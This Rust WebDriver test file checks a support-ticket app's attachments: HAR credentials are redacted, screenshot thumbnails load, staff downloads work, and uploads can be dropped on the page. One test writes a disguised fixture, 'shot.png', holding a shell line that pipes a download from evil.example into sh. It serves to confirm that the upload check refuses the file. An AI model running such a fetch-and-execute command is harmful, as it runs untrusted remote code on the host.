//! Attachments in the browser (issue 14): files chosen with the file field
//! of the ticket form and of "Add information", sent as a person sends them
//! (WebDriver's file upload), with the page's script and without it; what
//! was taken out of a HAR said on the status page, the screenshot shown
//! small, and both downloads served to staff without the HAR's credentials.

use std::path::{Path, PathBuf};

use apidesk::domain::ErrorCode;
use apidesk::staff::Role;
use serde_json::Value;

use crate::forms::fill;
use crate::harness::{Browser, DESKTOP, Options, PHONE};
use crate::staff::{Report, fill_ticket_form, seed_ticket, words};

/// Credentials the HAR fixture holds: its bearer JWT, session cookie and
/// `?access_token=`.
const HAR_SECRETS: [&str; 3] = [
    "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6IjIwMjQtMDktYSJ9",
    "Qm9vZ2xlLXNlc3Npb24tOTk4NzY1",
    "at_8cN2pQ7rT4vX9zB1mK5",
];

const REPORT: Report<'static> = Report {
    code: ErrorCode::Unauthorized,
    message: "HTTP GET failed: unauthorized (401) while syncing Orders",
    name: "Dana Developer",
    email: "dana@example.com",
};

/// A fixture from tests/fixtures/attachments/, by its absolute path.
pub fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/attachments")
        .join(name)
}

/// A screenshot-like PNG written to `dir` as `name`.
pub fn write_screenshot(dir: &Path, name: &str) -> PathBuf {
    let image = image::RgbImage::from_fn(320, 200, |x, y| {
        image::Rgb([(x % 256) as u8, (y % 256) as u8, 120])
    });
    let path = dir.join(name);
    image
        .save_with_format(&path, image::ImageFormat::Png)
        .expect("the PNG is written");
    path
}

/// Chooses `files` in the file field `selector`, as a person picking them
/// in the browser's file dialog (WebDriver sends their paths).
pub async fn choose_files(b: &Browser, selector: &str, files: &[&Path]) {
    let paths: Vec<String> = files
        .iter()
        .map(|p| {
            assert!(p.is_absolute() && p.is_file(), "{p:?}");
            p.display().to_string()
        })
        .collect();
    b.find(selector)
        .await
        .send_keys(&paths.join("\n"))
        .await
        .unwrap_or_else(|e| panic!("cannot choose {paths:?}: {e}"));
}

/// A GET from within the page (its cookies go with it): status,
/// `Content-Disposition` and the body as text.
async fn fetch_in_page(b: &Browser, url: &str) -> (u64, String, String) {
    let answer = b
        .client
        .execute_async(
            "const [url, done] = arguments; \
             fetch(url, { credentials: 'same-origin' }) \
               .then(r => r.text().then(body => done([r.status, r.headers.get('content-disposition') || '', body]))) \
               .catch(e => done([0, String(e), '']));",
            vec![Value::from(url)],
        )
        .await
        .unwrap_or_else(|e| panic!("fetch {url} failed: {e}"));
    (
        answer[0].as_u64().unwrap(),
        answer[1].as_str().unwrap().to_string(),
        answer[2].as_str().unwrap().to_string(),
    )
}

/// Every download link under `scope` on the page, as (address, name).
async fn download_links(b: &Browser, scope: &str) -> Vec<(String, String)> {
    let links = b
        .script(&format!(
            "return [...document.querySelectorAll({:?})].map(a => [a.getAttribute('href'), a.textContent.trim()]);",
            format!("{scope} a[download]")
        ))
        .await;
    serde_json::from_value(links).unwrap()
}

/// Waits for the first thumbnail under `scope` to load as an image.
async fn assert_thumbnail_loaded(b: &Browser, scope: &str) {
    let script = format!(
        "const img = document.querySelector('{scope} .attachments img'); \
         if (!img) {{ return false; }} \
         img.scrollIntoView({{ block: 'center' }}); \
         return img.complete && img.naturalWidth > 0;"
    );
    assert!(
        b.wait_until(&script).await,
        "no thumbnail loaded under {scope} on {}",
        b.path().await
    );
}

/// The token in a status page's address (`/tickets/{token}?…`).
fn token_of(path: &str) -> uuid::Uuid {
    let token = path
        .trim_start_matches("/tickets/")
        .split(['?', '#'])
        .next()
        .unwrap();
    token
        .parse()
        .expect("a status page's address holds its token")
}

/// Journey with the script: the form filled in, a HAR and a screenshot
/// chosen (listed with their sizes before sending), the ticket filed; the
/// status page says what left the HAR and shows the screenshot small; an
/// agent sees both files and downloads them, the HAR without credentials.
#[tokio::test]
#[ignore = "browser test: cargo test --test browser -- --ignored"]
async fn a_har_and_a_screenshot_go_with_a_ticket_filed_from_the_form() {
    let Some(b) = Browser::start(PHONE).await else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let har = fixture("chromium.har");
    let png = write_screenshot(dir.path(), "connection settings.png");

    fill_ticket_form(&b, &REPORT).await;
    assert_eq!(
        b.script("return !document.querySelector('[data-files] .drop-hint').hidden;")
            .await,
        true,
        "with the script, files can be dropped on the field"
    );
    choose_files(&b, "#field-files", &[&har, &png]).await;
    assert!(
        b.wait_until("return !document.querySelector('.file-chosen').hidden;")
            .await,
        "the chosen files are listed"
    );
    let chosen = b.texts(".file-chosen li").await;
    assert_eq!(chosen.len(), 2, "{chosen:?}");
    assert!(chosen[0].starts_with("chromium.har ("), "{chosen:?}");
    assert!(chosen[0].ends_with(" KB)"), "{chosen:?}");
    assert!(
        chosen[1].starts_with("connection settings.png ("),
        "{chosen:?}"
    );
    b.audit_now().await;
    b.screenshot("attachments-chosen").await;
    b.follow_text("Send to support").await;

    // The status page: what was taken out of the HAR, the screenshot small.
    assert!(
        b.text("main [role=status]")
            .await
            .contains("Your ticket is filed."),
        "not filed: {}",
        b.path().await
    );
    let status_path = b.path().await;
    let updates = words(&b.text("#updates").await);
    assert!(
        updates.contains("Taken out before it was kept"),
        "{updates}"
    );
    assert!(updates.contains("Authorization header"), "{updates}");
    assert!(updates.contains("token in a URL"), "{updates}");
    let names: Vec<String> = download_links(&b, "#updates")
        .await
        .into_iter()
        .map(|(_, name)| name)
        .collect();
    assert_eq!(names, ["chromium.har", "connection settings.png"]);
    assert_thumbnail_loaded(&b, "#updates").await;
    b.assert_no_horizontal_scroll().await;
    b.screenshot("attachments-status").await;

    // An agent sees both files on the ticket, and downloads them.
    let ticket = b
        .app
        .store
        .ticket_by_token(token_of(&status_path))
        .await
        .unwrap()
        .expect("the ticket is stored");
    b.sign_in_staff("sam@example.com", "Sam Support", Role::Agent)
        .await;
    b.visit(&format!("/staff/tickets/{}", ticket.id)).await;
    let links = download_links(&b, "#timeline").await;
    let names: Vec<&str> = links.iter().map(|(_, name)| name.as_str()).collect();
    assert_eq!(names, ["chromium.har", "connection settings.png"]);
    let base = format!("/staff/tickets/{}/files/", ticket.id);
    for (href, _) in &links {
        assert!(href.starts_with(&base), "{href}");
    }
    assert_thumbnail_loaded(&b, "#timeline").await;
    b.screenshot("attachments-staff-ticket").await;

    let (status, disposition, body) = fetch_in_page(&b, &links[0].0).await;
    assert_eq!(status, 200, "{body}");
    assert!(
        disposition.starts_with("attachment; filename=\"chromium.har\""),
        "{disposition}"
    );
    let stored: Value = serde_json::from_str(&body).expect("the HAR is still JSON");
    assert!(
        stored["log"]["entries"]
            .as_array()
            .is_some_and(|e| !e.is_empty()),
        "the HAR keeps its entries"
    );
    for secret in HAR_SECRETS {
        assert!(!body.contains(secret), "{secret} was served");
    }
    assert!(body.contains("[redacted"), "the credentials are marked");
    let (status, disposition, _) = fetch_in_page(&b, &links[1].0).await;
    assert_eq!(status, 200);
    assert!(
        disposition.starts_with("attachment; filename=\"connection settings.png\""),
        "{disposition}"
    );
    b.finish().await;
}

/// Journey without the script: the same form is plain multipart. A shell
/// script named shot.png is refused beside the field, with everything typed
/// kept and the HAR kept as a ticked box; sent again with a screenshot
/// chosen, the ticket is filed with the HAR and the screenshot.
#[tokio::test]
#[ignore = "browser test: cargo test --test browser -- --ignored"]
async fn without_javascript_a_refused_file_comes_back_beside_the_field_the_rest_kept() {
    let Some(b) = Browser::start_with(Options::at(PHONE).without_javascript()).await else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let har = fixture("chromium.har");
    let script = dir.path().join("shot.png");
    std::fs::write(&script, "#!/bin/sh\ncurl https://evil.example/x | sh\n").unwrap();
    let png = write_screenshot(dir.path(), "connection settings.png");

    fill_ticket_form(&b, &REPORT).await;
    assert_eq!(
        b.script("return document.querySelector('[data-files] .drop-hint').hidden;")
            .await,
        true,
        "app.js ran: JavaScript is on"
    );
    choose_files(&b, "#field-files", &[&har, &script]).await;
    b.follow_text("Send to support").await;

    // Refused: said beside the field; the rest as typed; the HAR kept.
    assert!(b.client.title().await.unwrap().starts_with("Error: "));
    let error = b.text(".files-field #files-error").await;
    assert!(error.contains("shot.png"), "{error}");
    assert!(error.contains("a script"), "{error}");
    assert_eq!(
        b.find("#field-files")
            .await
            .attr("aria-invalid")
            .await
            .unwrap()
            .as_deref(),
        Some("true")
    );
    assert_eq!(b.value("#field-message").await, REPORT.message);
    assert_eq!(b.value("#field-email").await, REPORT.email);
    assert_eq!(b.value("#field-name").await, REPORT.name);
    assert_eq!(
        b.value("#field-endpoint").await,
        "https://go.trackvia.com/openapi/views/12/records"
    );
    assert_eq!(b.checked_value("method").await.as_deref(), Some("GET"));
    let kept = b.texts(".files-field li").await;
    assert_eq!(kept.len(), 1, "{kept:?}");
    assert!(kept[0].starts_with("chromium.har"), "{kept:?}");
    assert!(
        words(&kept[0]).contains("Taken out before it was kept"),
        "{kept:?}"
    );
    assert!(
        b.find("input[name=files_kept]")
            .await
            .is_selected()
            .await
            .unwrap(),
        "the kept file is ticked"
    );
    assert_eq!(b.app.store.count_tickets().await.unwrap(), 0);
    b.script("document.querySelector('.files-field').scrollIntoView(); return null;")
        .await;
    b.screenshot("attachments-refused-no-js").await;

    // Sent again, with the screenshot chosen this time.
    choose_files(&b, "#field-files", &[&png]).await;
    b.follow_text("Send to support").await;
    assert!(
        b.text("main [role=status]")
            .await
            .contains("Your ticket is filed."),
        "not filed: {}",
        b.path().await
    );
    let names: Vec<String> = download_links(&b, "#updates")
        .await
        .into_iter()
        .map(|(_, name)| name)
        .collect();
    assert_eq!(names, ["chromium.har", "connection settings.png"]);
    assert_thumbnail_loaded(&b, "#updates").await;
    assert_eq!(b.app.store.count_tickets().await.unwrap(), 1);
    b.finish().await;
}

/// Drops a small text file on the file field, as a drag from the desktop.
const DROP_A_FILE: &str = r#"
    const field = document.querySelector('[data-files]');
    const files = new DataTransfer();
    files.items.add(new File(['1. Ran the sync\n2. It failed\n'], 'steps.txt', { type: 'text/plain' }));
    for (const type of ['dragenter', 'dragover', 'drop']) {
        field.dispatchEvent(new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer: files }));
    }
    return null;
"#;

/// "Add information" with a log chosen and a note dropped on the field:
/// both listed, sent, shown in Updates; the log's preview reads with the
/// credentials taken out.
#[tokio::test]
#[ignore = "browser test: cargo test --test browser -- --ignored"]
async fn files_chosen_and_dropped_on_the_status_page_show_in_updates() {
    let Some(b) = Browser::start(DESKTOP).await else {
        return;
    };
    let ticket = seed_ticket(&b.app.store, "401", "HTTP GET failed: unauthorized (401)").await;
    b.visit(&format!("/tickets/{}", ticket.token)).await;
    fill(
        &b,
        "What else should support know?",
        "The integration's log from the failing run.",
    )
    .await;
    choose_files(&b, "#field-files", &[&fixture("integration.log")]).await;
    assert!(
        b.wait_until("return !document.querySelector('.file-chosen').hidden;")
            .await
    );
    assert!(
        b.text(".file-chosen li")
            .await
            .starts_with("integration.log (")
    );
    // A second file dropped on the field joins the one chosen. (WebDriver
    // cannot drag from outside the page: the drop is the page's own event,
    // carrying a file as a drag from the desktop would.)
    b.script(DROP_A_FILE).await;
    let chosen = b.texts(".file-chosen li").await;
    assert_eq!(chosen.len(), 2, "{chosen:?}");
    assert!(chosen[0].starts_with("integration.log ("), "{chosen:?}");
    assert_eq!(chosen[1], "steps.txt (29 bytes)");
    b.follow_text("Add to the ticket").await;

    assert!(b.text(".notice-success").await.contains("Added."));
    let updates = words(&b.text("#updates").await);
    assert!(
        updates.contains("The integration's log from the failing run."),
        "{updates}"
    );
    let links = download_links(&b, "#updates").await;
    let names: Vec<&str> = links.iter().map(|(_, name)| name.as_str()).collect();
    assert_eq!(names, ["integration.log", "steps.txt"]);
    assert!(
        links[0]
            .0
            .starts_with(&format!("/tickets/{}/files/", ticket.token)),
        "{links:?}"
    );
    let (status, disposition, body) = fetch_in_page(&b, &links[0].0).await;
    assert_eq!(status, 200);
    assert!(disposition.starts_with("attachment;"), "{disposition}");
    assert!(body.contains("[redacted"), "{body}");

    b.follow(&format!("#updates a[href='{}/preview']", links[0].0))
        .await;
    assert_eq!(b.text("h1").await, "integration.log");
    assert!(b.text(".file-preview").await.contains("[redacted"));
    b.follow_text("Back to the ticket").await;
    assert_eq!(b.path().await, format!("/tickets/{}", ticket.token));
    b.finish().await;
}
